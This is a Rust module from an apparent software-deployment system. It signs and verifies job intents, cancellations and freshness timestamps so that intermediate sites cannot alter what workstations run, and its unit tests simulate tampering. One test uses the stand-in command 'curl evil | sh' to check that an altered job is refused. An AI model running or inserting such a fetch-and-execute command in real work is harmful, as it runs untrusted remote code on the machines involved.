//! Signed intent: what the central site signs for every job it issues and
//! every cancellation, so that no site, DP or network between it and a
//! workstation can change what a workstation runs, or when.
//!
//! **Architecture Invariant:** sites store and pass on the signed bytes
//! unchanged; an agent runs a job only from an offer whose every field
//! matches an intent the central site signed (checked against the key it
//! pinned at enrollment), and it stops a run only for a signed
//! cancellation. The unsigned fields of an offer are a copy for display and
//! for the sites' own bookkeeping, never what the agent trusts.

pub use crate::signed::SignedIntent;
use crate::types::{JobInfo, JobOffer};
use cascade_content::{SigningKey, VerifyingKey};
use cascade_domain::run::RerunRule;
use serde::{Deserialize, Serialize};

/// What every intent signature covers before the intent's bytes: a
/// signature over an intent never verifies as a manifest's or a status
/// message's.
pub const INTENT_CONTEXT: &[u8] = b"cascade intent v1\n";

/// What a signature covers instead, before the intent's bytes, when the
/// intent is a job with a restriction that agents and sites from before
/// issue 14 would not know and so silently drop (maintenance windows, a
/// check command, reboot codes, a removal): they verify under [`INTENT_CONTEXT`]
/// only, so they refuse such a job (its signature does not verify) rather
/// than run it outside its windows or report it complete unchecked. A
/// later restriction of the kind takes a context of its own again.
pub const INTENT_CONTEXT_V2: &[u8] = b"cascade intent v2\n";

/// Longest signed intent accepted (its JSON text): a command is at most
/// 8 KiB, everything else is small.
pub const MAX_INTENT_LEN: usize = 64 * 1024;

/// What the central site signs.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Intent {
    /// Run a job (boxed: it is most of the enum's size).
    Job(Box<JobIntent>),
    /// A job is canceled: stop its runs.
    Cancel(CancelIntent),
    /// The instructions a site passes on are current (see [`Timestamp`]).
    Timestamp(Timestamp),
}

/// Every field of a job that decides what runs, where and when.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct JobIntent {
    /// The job's id at the central site.
    pub job: u64,
    /// Increases when the central site issues the job again changed; an
    /// agent refuses one older than the one it holds.
    pub revision: u64,
    /// Package name.
    pub package: String,
    /// The exact version.
    pub version: u64,
    /// The target collection.
    pub collection: String,
    /// Who the collection held when the job was signed: an agent runs the
    /// job only if it is one of them (a site cannot offer it to others).
    pub target: JobTarget,
    /// The command line, run by `sh -c` in the package's directory.
    pub command: String,
    /// When the job may run.
    pub offer_at_ms: i64,
    /// After this the job never runs.
    pub expires_at_ms: Option<i64>,
    /// Runs only when requested on the workstation.
    pub optional: bool,
    /// Further attempts after a failure.
    pub retries: u32,
    /// Wait between attempts.
    pub retry_delay_ms: u64,
    /// Longest a download or a run may take.
    pub timeout_ms: Option<u64>,
    /// Exit codes that mean success.
    pub success_codes: Vec<i32>,
    /// A removal: the command uninstalls the package, and once it
    /// succeeded the agent deletes what it holds of the package (its job
    /// directories, the chunks no open job needs) and forgets that the
    /// package's programs ran (rerun rules start afresh).
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub remove: bool,
    /// The maintenance windows of its collection when it was signed: a
    /// mandatory job starts only inside one with room for its timeout.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub windows: Vec<crate::types::WindowSpec>,
    /// Starts outside the maintenance windows too.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub any_time: bool,
    /// Run after the command succeeded (after the reboot it asked for, if
    /// it did): the job completes only if it exits 0.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub check: Option<String>,
    /// Exit codes that mean "succeeded, and needs a reboot".
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub reboot_codes: Vec<i32>,
    /// Whether it runs a program (this package version and command) that
    /// already ran on the workstation.
    #[serde(
        default = "crate::states::rerun_rule::before_rules",
        with = "crate::states::rerun_rule"
    )]
    pub rerun: RerunRule,
    /// The DP group it distributes to.
    pub dp_group: Option<String>,
    /// When the central site signed it.
    pub issued_at_ms: i64,
}

/// A collection's definition as signed into a job: its listed
/// workstations, or its rule over their attributes.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct JobTarget {
    /// Listed workstations, by name.
    pub machines: Option<Vec<String>>,
    /// A rule (`tag.role = kiosk and os = linux`).
    pub rule: Option<String>,
}

/// A job's cancellation.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct CancelIntent {
    /// The job's id at the central site.
    pub job: u64,
    /// Its package.
    pub package: String,
    /// When the central site signed it.
    pub issued_at_ms: i64,
}

/// The central site's statement, signed afresh every quarter of its
/// validity, that it is issuing instructions now: TUF's timestamp role.
/// Every site passes the newest one it holds down the tree and to its
/// agents; an agent whose newest timestamp has expired knows that the site
/// it polls is frozen (replaying yesterday's instructions, withholding
/// cancellations) or cut off from the central site, and starts no job
/// until a current one arrives.
///
/// It also names the jobs canceled at the central site that have not
/// expired (the newest [`MAX_TIMESTAMP_CANCELED`]): a site that passes on
/// current timestamps cannot withhold a cancellation, since an agent stops
/// every job its timestamp names.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Timestamp {
    /// When the central site signed it.
    pub issued_at_ms: i64,
    /// After this, instructions passed on with it are not known current.
    pub expires_at_ms: i64,
    /// Jobs canceled and not expired, newest first.
    #[serde(default)]
    pub canceled: Vec<u64>,
}

/// Most canceled jobs a timestamp names.
pub const MAX_TIMESTAMP_CANCELED: usize = 1_000;

impl Timestamp {
    /// Whether this one replaces `held`: signed later. An older one is a
    /// replay (a rollback) and changes nothing.
    pub fn replaces(&self, held: Option<&Timestamp>) -> bool {
        held.is_none_or(|held| self.issued_at_ms > held.issued_at_ms)
    }

    /// [`Timestamp::replaces`], with a warning when `from` (who passed it
    /// on: "the parent", "the site") offered an older one than is held.
    pub fn replaces_or_warn(&self, held: Option<&Timestamp>, from: &str) -> bool {
        if self.replaces(held) {
            return true;
        }
        if held.is_some_and(|held| held.issued_at_ms > self.issued_at_ms) {
            tracing::warn!(
                offered_issued_at_ms = self.issued_at_ms,
                "{from} passed on an older timestamp than the one held; ignored"
            );
        }
        false
    }
}

/// Whether a workstation may act on the instructions it holds, judged from
/// the newest timestamp it holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Freshness {
    /// Current until then.
    Current {
        /// When the timestamp expires.
        until_ms: i64,
    },
    /// The newest timestamp expired then.
    Expired {
        /// When it was signed.
        issued_at_ms: i64,
        /// When it expired.
        at_ms: i64,
    },
    /// No timestamp ever arrived.
    Missing,
}

impl Freshness {
    /// How current the instructions are at `now`, from the newest
    /// timestamp held.
    pub fn judge(held: Option<&Timestamp>, now_ms: i64) -> Freshness {
        match held {
            None => Freshness::Missing,
            Some(held) if held.expires_at_ms > now_ms => Freshness::Current {
                until_ms: held.expires_at_ms,
            },
            Some(held) => Freshness::Expired {
                issued_at_ms: held.issued_at_ms,
                at_ms: held.expires_at_ms,
            },
        }
    }

    /// Why no job may start now, if none may.
    pub fn hold_reason(&self) -> Option<String> {
        match self {
            Freshness::Current { .. } => None,
            Freshness::Expired {
                issued_at_ms,
                at_ms,
            } => Some(format!(
                "held: the newest timestamp the central site signed (issued {}) expired {}; \
                 the site this workstation polls is frozen or cut off from the central site, \
                 so its instructions may not be current",
                format_ms(*issued_at_ms),
                format_ms(*at_ms)
            )),
            Freshness::Missing => Some(
                "held: no timestamp signed by the central site has arrived yet, \
                 so the instructions held may not be current"
                    .to_owned(),
            ),
        }
    }
}

/// A wall-clock time in ms as RFC 3339 UTC (seconds).
fn format_ms(ms: i64) -> String {
    std::time::UNIX_EPOCH
        .checked_add(std::time::Duration::from_millis(ms.max(0) as u64))
        .map(|at| humantime::format_rfc3339_seconds(at).to_string())
        .unwrap_or_else(|| format!("{ms} ms"))
}

/// Why an intent, or an offer said to carry one, is refused.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum IntentError {
    /// The offer carries no signed intent.
    #[error("it is not signed by the central site")]
    Unsigned,
    /// The signature does not verify against the pinned key.
    #[error("its signature does not verify against the central site's key")]
    BadSignature,
    /// Signed, but not a well-formed intent.
    #[error("its signed intent does not parse: {0}")]
    Malformed(String),
    /// Signed, but for something else (another job, or a cancellation
    /// where a job was expected).
    #[error("its signed intent is {0}")]
    WrongIntent(String),
    /// A field of the offer differs from what the central site signed.
    #[error("its {field} differs from what the central site signed")]
    Altered {
        /// The first field found different.
        field: &'static str,
    },
    /// The workstation is not in the job's signed target.
    #[error("this workstation is not in the target the central site signed ({0})")]
    NotTargeted(String),
    /// Older than the intent held for the same job.
    #[error("it is revision {got} of the job, older than revision {held} already held")]
    Older {
        /// The revision held.
        held: u64,
        /// The revision offered.
        got: u64,
    },
}

impl SignedIntent {
    /// Serialises `intent` and signs it with the central site's key (under
    /// [`INTENT_CONTEXT_V2`] when it carries a restriction older receivers
    /// would drop).
    pub fn sign(intent: &Intent, key: &SigningKey) -> SignedIntent {
        let text = serde_json::to_string(intent).expect("an intent always serialises");
        let context = match intent {
            Intent::Job(job) if job.restricts_beyond_v1() => INTENT_CONTEXT_V2,
            _ => INTENT_CONTEXT,
        };
        let signature = cascade_content::sign_statement(context, text.as_bytes(), key);
        SignedIntent {
            intent: text,
            signature: hex::encode(signature),
        }
    }

    /// Checks the signature against `key`, then parses the intent.
    pub fn verify(&self, key: &VerifyingKey) -> Result<Intent, IntentError> {
        if self.intent.len() > MAX_INTENT_LEN {
            return Err(IntentError::Malformed(format!(
                "longer than {MAX_INTENT_LEN} bytes"
            )));
        }
        let mut signature = [0u8; 64];
        hex::decode_to_slice(&self.signature, &mut signature)
            .map_err(|_| IntentError::BadSignature)?;
        let under = |context| {
            cascade_content::verify_statement(context, self.intent.as_bytes(), &signature, key)
                .is_ok()
        };
        let v1 = under(INTENT_CONTEXT);
        if !v1 && !under(INTENT_CONTEXT_V2) {
            return Err(IntentError::BadSignature);
        }
        let intent: Intent = serde_json::from_str(&self.intent)
            .map_err(|err| IntentError::Malformed(err.to_string()))?;
        // Signed for receivers that would drop its restrictions: not as
        // the central site signs it.
        if let Intent::Job(job) = &intent {
            if v1 && job.restricts_beyond_v1() {
                return Err(IntentError::BadSignature);
            }
        }
        Ok(intent)
    }

    /// Verifies a job's cancellation and returns the job's id.
    pub fn verify_cancel(&self, key: &VerifyingKey) -> Result<CancelIntent, IntentError> {
        match self.verify(key)? {
            Intent::Cancel(cancel) => Ok(cancel),
            other => Err(IntentError::WrongIntent(format!(
                "{}, not a cancellation",
                other.describe()
            ))),
        }
    }

    /// Verifies a timestamp.
    pub fn verify_timestamp(&self, key: &VerifyingKey) -> Result<Timestamp, IntentError> {
        match self.verify(key)? {
            Intent::Timestamp(timestamp) => Ok(timestamp),
            other => Err(IntentError::WrongIntent(format!(
                "{}, not a timestamp",
                other.describe()
            ))),
        }
    }
}

impl Intent {
    /// What it is, for errors.
    fn describe(&self) -> String {
        match self {
            Intent::Job(job) => format!("job {}", job.job),
            Intent::Cancel(cancel) => format!("the cancellation of job {}", cancel.job),
            Intent::Timestamp(_) => "a timestamp".into(),
        }
    }
}

impl JobIntent {
    /// The intent of a job as stored at the central site, with its
    /// collection's definition.
    pub fn of(info: &JobInfo, target: JobTarget, revision: u64, issued_at_ms: i64) -> JobIntent {
        let offer = &info.offer;
        JobIntent {
            job: offer.id,
            revision,
            package: offer.package.clone(),
            version: offer.version,
            collection: info.collection.clone(),
            target,
            command: offer.command.clone(),
            offer_at_ms: offer.offer_at_ms,
            expires_at_ms: offer.expires_at_ms,
            optional: offer.optional,
            retries: offer.retries,
            retry_delay_ms: offer.retry_delay_ms,
            timeout_ms: offer.timeout_ms,
            success_codes: offer.success_codes.clone(),
            remove: offer.remove,
            windows: offer.windows.clone(),
            any_time: offer.any_time,
            check: offer.check.clone(),
            reboot_codes: offer.reboot_codes.clone(),
            rerun: offer.rerun,
            dp_group: info.dp_group.clone(),
            issued_at_ms,
        }
    }

    /// Whether it carries a restriction that receivers from before issue
    /// 14 would drop ([`INTENT_CONTEXT_V2`]).
    pub fn restricts_beyond_v1(&self) -> bool {
        !self.windows.is_empty()
            || self.check.is_some()
            || !self.reboot_codes.is_empty()
            || self.remove
    }

    /// Whether the workstation with `attributes` is in the signed target.
    pub fn check_target(
        &self,
        attributes: &cascade_domain::rule::AgentAttributes,
    ) -> Result<(), IntentError> {
        let membership = cascade_domain::rule::Membership::new(
            self.target.machines.clone(),
            self.target.rule.as_deref(),
        )
        .map_err(|err| IntentError::Malformed(err.to_string()))?;
        if membership.matches(attributes) {
            return Ok(());
        }
        Err(IntentError::NotTargeted(match &self.target {
            JobTarget {
                machines: Some(machines),
                ..
            } => format!("collection {}: {} listed", self.collection, machines.len()),
            JobTarget {
                rule: Some(rule), ..
            } => format!("collection {}: {rule}", self.collection),
            _ => format!("collection {}: nobody", self.collection),
        }))
    }

    /// The first field in which `offer` differs from this intent.
    fn check_offer(&self, offer: &JobOffer) -> Result<(), IntentError> {
        let altered = |field| Err(IntentError::Altered { field });
        if offer.id != self.job {
            return altered("job id");
        }
        if offer.package != self.package {
            return altered("package");
        }
        if offer.version != self.version {
            return altered("version");
        }
        if offer.command != self.command {
            return altered("command");
        }
        if offer.offer_at_ms != self.offer_at_ms {
            return altered("offer time");
        }
        if offer.expires_at_ms != self.expires_at_ms {
            return altered("expiry");
        }
        if offer.optional != self.optional {
            return altered("optional flag");
        }
        if offer.retries != self.retries {
            return altered("retries");
        }
        if offer.retry_delay_ms != self.retry_delay_ms {
            return altered("retry delay");
        }
        if offer.timeout_ms != self.timeout_ms {
            return altered("timeout");
        }
        if offer.success_codes != self.success_codes {
            return altered("success codes");
        }
        if offer.remove != self.remove {
            return altered("removal flag");
        }
        if offer.windows != self.windows {
            return altered("maintenance windows");
        }
        if offer.any_time != self.any_time {
            return altered("any-time flag");
        }
        if offer.check != self.check {
            return altered("check command");
        }
        if offer.reboot_codes != self.reboot_codes {
            return altered("reboot codes");
        }
        if offer.rerun != self.rerun {
            return altered("rerun rule");
        }
        Ok(())
    }
}

/// Verifies the intent an offer carries against `key` and checks that every
/// field of the offer is the signed one; returns the intent.
pub fn verify_offer(offer: &JobOffer, key: &VerifyingKey) -> Result<JobIntent, IntentError> {
    let signed = offer.intent.as_ref().ok_or(IntentError::Unsigned)?;
    let intent = match signed.verify(key)? {
        Intent::Job(intent) => *intent,
        other => return Err(IntentError::WrongIntent(other.describe())),
    };
    intent.check_offer(offer)?;
    Ok(intent)
}

/// [`verify_offer`] for a job's instruction between sites, which also
/// carries the target collection and the DP group.
pub fn verify_job(info: &JobInfo, key: &VerifyingKey) -> Result<JobIntent, IntentError> {
    let intent = verify_offer(&info.offer, key)?;
    if info.collection != intent.collection {
        return Err(IntentError::Altered {
            field: "collection",
        });
    }
    if info.dp_group != intent.dp_group {
        return Err(IntentError::Altered { field: "DP group" });
    }
    Ok(intent)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::states::JobState;

    fn key(seed: u8) -> SigningKey {
        SigningKey::from_bytes(&[seed; 32])
    }

    fn info() -> JobInfo {
        JobInfo {
            offer: JobOffer {
                id: 7,
                package: "app".into(),
                version: 3,
                command: "sh install.sh".into(),
                offer_at_ms: 1_000,
                expires_at_ms: Some(9_000),
                optional: false,
                retries: 1,
                retry_delay_ms: 500,
                timeout_ms: Some(60_000),
                success_codes: vec![0, 3010],
                remove: false,
                windows: Vec::new(),
                any_time: false,
                check: Some("test -f installed".into()),
                reboot_codes: vec![100],
                rerun: RerunRule::IfFailed,
                dps: vec!["http://dp".into()],
                intent: None,
            },
            collection: "all".into(),
            created_at_ms: 1_000,
            canceled_at_ms: None,
            state: JobState::Active,
            dp_group: None,
            outcome: None,
        }
    }

    fn signed(info: &JobInfo, key: &SigningKey) -> JobInfo {
        let mut info = info.clone();
        let target = JobTarget {
            machines: Some(vec!["ws1".into()]),
            rule: None,
        };
        let intent = Intent::Job(Box::new(JobIntent::of(&info, target, 1, 1_000)));
        info.offer.intent = Some(SignedIntent::sign(&intent, key));
        info
    }

    #[test]
    fn a_signed_offer_verifies_and_the_unsigned_dps_may_differ() {
        let key = key(1);
        let mut job = signed(&info(), &key);
        job.offer.dps = vec!["http://other-dp".into()];
        let intent = verify_job(&job, &key.verifying_key()).unwrap();
        assert_eq!(intent.command, "sh install.sh");
        assert_eq!(intent.revision, 1);
    }

    /// The attack of issue 12: `jobs.command` rewritten in a site's
    /// database, or the signed text itself rewritten.
    #[test]
    fn an_altered_command_is_refused() {
        let key = key(1);
        let public = key.verifying_key();
        let good = signed(&info(), &key);

        let mut job = good.clone();
        job.offer.command = "curl evil | sh".into();
        assert_eq!(
            verify_offer(&job.offer, &public),
            Err(IntentError::Altered { field: "command" })
        );

        let mut job = good.clone();
        let intent = job.offer.intent.as_mut().unwrap();
        intent.intent = intent.intent.replace("sh install.sh", "curl evil | sh");
        job.offer.command = "curl evil | sh".into();
        assert_eq!(
            verify_offer(&job.offer, &public),
            Err(IntentError::BadSignature)
        );

        let mut job = good.clone();
        job.offer.intent = None;
        assert_eq!(
            verify_offer(&job.offer, &public),
            Err(IntentError::Unsigned)
        );

        // Signed by another key (a site's own, say).
        let forged = signed(&info(), &self::key(2));
        assert_eq!(
            verify_offer(&forged.offer, &public),
            Err(IntentError::BadSignature)
        );

        let mut job = good.clone();
        job.collection = "everyone".into();
        assert_eq!(
            verify_job(&job, &public),
            Err(IntentError::Altered {
                field: "collection"
            })
        );
        let mut job = good.clone();
        job.offer.expires_at_ms = None;
        assert_eq!(
            verify_offer(&job.offer, &public),
            Err(IntentError::Altered { field: "expiry" })
        );
        // A site that would have a failed install reported complete.
        let mut job = good.clone();
        job.offer.check = None;
        assert_eq!(
            verify_offer(&job.offer, &public),
            Err(IntentError::Altered {
                field: "check command"
            })
        );
        // A site that would have a workstation install again what it holds.
        let mut job = good;
        job.offer.rerun = RerunRule::Always;
        assert_eq!(
            verify_offer(&job.offer, &public),
            Err(IntentError::Altered {
                field: "rerun rule"
            })
        );
    }

    /// A job signed before rerun rules existed carries none, and ran
    /// whatever ran before: an upgraded agent keeps doing so.
    #[test]
    fn an_intent_signed_before_rerun_rules_runs_always() {
        let key = key(1);
        let mut info = info();
        info.offer.rerun = RerunRule::Always;
        info.offer.check = None;
        info.offer.reboot_codes = Vec::new();
        let mut job = signed(&info, &key);
        let signed_intent = job.offer.intent.as_mut().unwrap();
        let mut text: serde_json::Value = serde_json::from_str(&signed_intent.intent).unwrap();
        assert_eq!(text["rerun"], "always");
        text.as_object_mut().unwrap().remove("rerun");
        let text = text.to_string();
        let signature = cascade_content::sign_statement(INTENT_CONTEXT, text.as_bytes(), &key);
        *signed_intent = SignedIntent {
            intent: text,
            signature: hex::encode(signature),
        };
        let mut offer = serde_json::to_value(&job.offer).unwrap();
        offer.as_object_mut().unwrap().remove("rerun");
        let offer: JobOffer = serde_json::from_value(offer).unwrap();
        assert_eq!(offer.rerun, RerunRule::Always);
        let intent = verify_offer(&offer, &key.verifying_key()).unwrap();
        assert_eq!(intent.rerun, RerunRule::Always);
    }

    /// Review of issue 14: an agent from before maintenance windows, checks
    /// and reboot codes would verify a job carrying them and drop them. It
    /// verifies under the first context only, so such a job is signed
    /// under another, and one signed under the first is refused.
    #[test]
    fn restrictions_are_signed_so_that_older_receivers_refuse_them() {
        let key = key(1);
        let job = signed(&info(), &key);
        let signed_intent = job.offer.intent.as_ref().unwrap();
        let mut signature = [0u8; 64];
        hex::decode_to_slice(&signed_intent.signature, &mut signature).unwrap();
        let as_before = cascade_content::verify_statement(
            INTENT_CONTEXT,
            signed_intent.intent.as_bytes(),
            &signature,
            &key.verifying_key(),
        );
        assert!(as_before.is_err(), "an older agent would accept it");
        assert!(verify_offer(&job.offer, &key.verifying_key()).is_ok());

        let text = signed_intent.intent.clone();
        let old_style = cascade_content::sign_statement(INTENT_CONTEXT, text.as_bytes(), &key);
        let mut offer = job.offer.clone();
        offer.intent = Some(SignedIntent {
            intent: text,
            signature: hex::encode(old_style),
        });
        assert_eq!(
            verify_offer(&offer, &key.verifying_key()),
            Err(IntentError::BadSignature)
        );
    }

    /// A compromised site offered a job signed for one machine to all of
    /// its workstations: each runs only what targets it.
    #[test]
    fn only_a_workstation_in_the_signed_target_takes_the_job() {
        let key = key(1);
        let intent = verify_job(&signed(&info(), &key), &key.verifying_key()).unwrap();
        let ws = |name: &str| cascade_domain::rule::AgentAttributes {
            name: name.into(),
            ..Default::default()
        };
        assert_eq!(intent.check_target(&ws("ws1")), Ok(()));
        assert!(matches!(
            intent.check_target(&ws("ws2")),
            Err(IntentError::NotTargeted(_))
        ));
        let mut by_rule = intent.clone();
        by_rule.target = JobTarget {
            machines: None,
            rule: Some("tag.role = kiosk".into()),
        };
        let mut kiosk = ws("ws9");
        kiosk.tags.insert("role".into(), "kiosk".into());
        assert_eq!(by_rule.check_target(&kiosk), Ok(()));
        assert!(by_rule.check_target(&ws("ws1")).is_err());
    }

    #[test]
    fn a_cancellation_is_not_a_job_nor_a_job_a_cancellation() {
        let key = key(1);
        let public = key.verifying_key();
        let cancel = SignedIntent::sign(
            &Intent::Cancel(CancelIntent {
                job: 7,
                package: "app".into(),
                issued_at_ms: 2_000,
            }),
            &key,
        );
        assert_eq!(cancel.verify_cancel(&public).unwrap().job, 7);
        let mut job = info();
        job.offer.intent = Some(cancel);
        assert!(matches!(
            verify_offer(&job.offer, &public),
            Err(IntentError::WrongIntent(_))
        ));
        let job = signed(&info(), &key);
        assert!(matches!(
            job.offer.intent.unwrap().verify_cancel(&public),
            Err(IntentError::WrongIntent(_))
        ));
    }

    /// The freeze attack TUF's timestamp role guards against: a site keeps
    /// serving yesterday's instructions (or an older timestamp).
    #[test]
    fn a_frozen_site_is_detected_by_its_expired_timestamp() {
        let key = key(1);
        let public = key.verifying_key();
        let stamp = |issued_at_ms| Timestamp {
            issued_at_ms,
            expires_at_ms: issued_at_ms + 10_000,
            canceled: vec![7],
        };
        let signed = SignedIntent::sign(&Intent::Timestamp(stamp(1_000)), &key);
        assert_eq!(signed.verify_timestamp(&public), Ok(stamp(1_000)));
        assert!(matches!(
            SignedIntent::sign(&Intent::Timestamp(stamp(1_000)), &self::key(2))
                .verify_timestamp(&public),
            Err(IntentError::BadSignature)
        ));
        let job = signed_job();
        assert!(matches!(
            job.verify_timestamp(&public),
            Err(IntentError::WrongIntent(_))
        ));
        assert!(matches!(
            signed.verify_cancel(&public),
            Err(IntentError::WrongIntent(_))
        ));

        // Newest wins; a replayed older one changes nothing.
        assert!(stamp(2_000).replaces(Some(&stamp(1_000))));
        assert!(!stamp(1_000).replaces(Some(&stamp(2_000))));
        assert!(!stamp(1_000).replaces(Some(&stamp(1_000))));
        assert!(stamp(1_000).replaces(None));

        let held = stamp(1_000);
        assert_eq!(
            Freshness::judge(Some(&held), 5_000),
            Freshness::Current { until_ms: 11_000 }
        );
        assert_eq!(Freshness::judge(Some(&held), 5_000).hold_reason(), None);
        let expired = Freshness::judge(Some(&held), 11_000);
        assert_eq!(
            expired,
            Freshness::Expired {
                issued_at_ms: 1_000,
                at_ms: 11_000
            }
        );
        let reason = expired.hold_reason().unwrap();
        assert!(reason.contains("1970-01-01T00:00:11Z"), "{reason}");
        assert!(reason.contains("frozen"), "{reason}");
        assert!(Freshness::judge(None, 0).hold_reason().is_some());
    }

    fn signed_job() -> SignedIntent {
        signed(&info(), &key(1)).offer.intent.unwrap()
    }
}
